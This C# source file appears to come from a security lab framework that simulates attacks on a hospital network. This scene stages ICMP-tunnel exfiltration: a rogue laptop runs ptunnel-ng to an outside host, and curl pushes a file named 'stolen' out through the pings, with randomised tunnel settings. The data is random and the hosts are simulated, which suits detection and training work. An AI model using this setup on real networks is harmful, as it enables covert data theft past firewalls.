using Wardkeeper.Lab.Services;
using Wardkeeper.Lab.Site;

namespace Wardkeeper.Lab.Attacks.Outside;

/// <summary>ptunnel carries a TCP connection out of the hospital in pings and their answers.</summary>
internal sealed class PingTunnel() : Scene("icmp-tunnel",
    "A laptop carries a connection to a machine outside in pings and their answers.",
    "一台笔记本电脑把与院外主机的连接藏在 ping 请求和应答中传输。",
    "T1095", "T1572", "T1048")
{
    private const string Tunnel = "ptunnel-ng";

    /// <inheritdoc/>
    public override IReadOnlyList<Requirement> Needs => [new(Tunnel, Tunnel), new("curl", "curl")];

    /// <inheritdoc/>
    public override async Task<SceneReport> RunAsync(SceneStage stage, CancellationToken cancel)
    {
        HostNamespace outside = Cast.Outside(stage.Site);
        string way = stage.Dice.Of(["fetch", "send", "both"]), magic = stage.Dice.Letters(8, "0123456789abcdef");
        int door = stage.Dice.Between(2000, 9000), port = stage.Dice.Of([22, 80, 443, 3128]), payload = stage.Dice.Of([256, 512, 1024]), window = stage.Dice.Of([16, 64]), rounds = stage.Dice.Between(4, 6);
        byte[] page = stage.Dice.Bytes(way == "send" ? 200 : stage.Dice.Between(12_000, 60_000));
        string stolen = Path.Combine(stage.Folder("icmp-tunnel"), "stolen");
        await File.WriteAllBytesAsync(stolen, stage.Dice.Bytes(stage.Dice.Between(12_000, 60_000)), cancel);
        HostNamespace rogue = await stage.PlugAsync(RogueDevice.In(stage, stage.Dice.Of(Cast.Inside(stage.Site)).Department), cancel);
        // Some let the system answer pings as well, as it always does; who wants a fast tunnel does not.
        if (stage.Dice.Chance(50))
        {
            stage.Afterwards(() => IpTool.ShellAsync(outside.Name, "sysctl -qw net.ipv4.icmp_echo_ignore_all=0", CancellationToken.None));
            await IpTool.ShellAsync(outside.Name, "sysctl -qw net.ipv4.icmp_echo_ignore_all=1", cancel);
        }

        stage.Begin();
        await using WebAnswers web = WebAnswers.Start(outside, port, _ => ("200 OK", "application/octet-stream", page));
        string[] common = ["-m", magic, "-y", SceneStage.Text(payload), "-w", SceneStage.Text(window), "-R" + SceneStage.Text(port), "-r" + outside.Device.Ip, "-uroot", "-groot", "-C/"];
        await using RunningProgram far = await ProgramRun.ServeAsync(outside, stage.Site.LogOf(outside, Tunnel), Tunnel, common, [], cancel);
        await using RunningProgram near = await ProgramRun.ServeAsync(rogue, stage.Site.LogOf(rogue, Tunnel), Tunnel, ["-p", outside.Device.Ip.ToString(), "-l", SceneStage.Text(door), .. common], [door], cancel);
        for (int round = 0; round < rounds; round++)
        {
            // A connection through it hangs now and then; whoever uses it tries again.
            await stage.RunAsync(rogue, "curl", ["-sS", "--max-time", "8", "-o", "/dev/null", "-H", "Expect:", .. way == "fetch" ? (string[])[] : ["--data-binary", "@" + stolen], $"http://127.0.0.1:{door}/"], cancel);
            await Task.Delay(stage.Dice.Time(100, 600), cancel);
        }
        if (web.Answered == 0) throw new LabException($"none of {rounds} requests came through the tunnel: {far.Tail()}");
        return new SceneReport([AllOf(rogue)],
            [("attacker", rogue.Device.Ip.ToString()), ("way", way), ("payload-bytes", SceneStage.Text(payload)), ("window", SceneStage.Text(window)), ("requests", SceneStage.Text(rounds)), ("page-bytes", SceneStage.Text(page.Length))]);
    }
}
